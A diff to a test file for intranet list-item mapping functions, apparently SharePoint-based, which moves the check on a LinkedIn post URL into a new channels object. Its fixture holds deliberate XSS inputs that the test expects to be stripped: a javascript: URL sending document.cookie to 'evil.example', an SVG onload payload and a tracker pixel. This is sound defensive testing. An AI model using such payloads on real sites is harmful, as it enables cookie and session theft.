@@ -60,7 +60,8 @@ describe('the mappings, for values a list may hold however they got there', () =
       { Id: 4, Title: 'Anne Hansen', MnJobAdvertUrl: { Url: 'javascript:fetch("https://evil.example/?c="+document.cookie)' }, MnLinkedInPostUrl: { Url: ' JAVASCRIPT:alert(1)' }, MnPhoto: { Url: 'data:image/svg+xml,<svg onload=alert(1)>' } },
       SITE,
     );
-    expect(portrait).toMatchObject({ name: 'Anne Hansen', jobAdvertUrl: undefined, linkedInPostUrl: undefined, photo: undefined });
+    expect(portrait).toMatchObject({ name: 'Anne Hansen', jobAdvertUrl: undefined, photo: undefined });
+    expect(portrait?.channels.linkedIn).toEqual({ status: 'notShared', text: undefined, postUrl: undefined, sharedAt: undefined, removedAt: undefined });
     expect(toStory({ Id: 5, Title: 'Historie', BannerImageUrl: { Url: 'https://tracker.example/p.gif' } }, SITE)?.heroImage).toBeUndefined();
     const item = toNavnenytItem({ Id: 6, Title: 'Bo', MnEventType: 'Fødselsdag', MnEventDate: '2026-11-26T23:00:00Z', MnPhoto: { Url: `${SITE}/Lists/Navnenyt/Attachments/6/bo.jpg` }, MnPhotoAlt: 'Bo' }, SITE, 'Europe/Copenhagen');
     expect(item?.photo).toEqual({ url: `${SITE}/Lists/Navnenyt/Attachments/6/bo.jpg`, alt: 'Bo' });
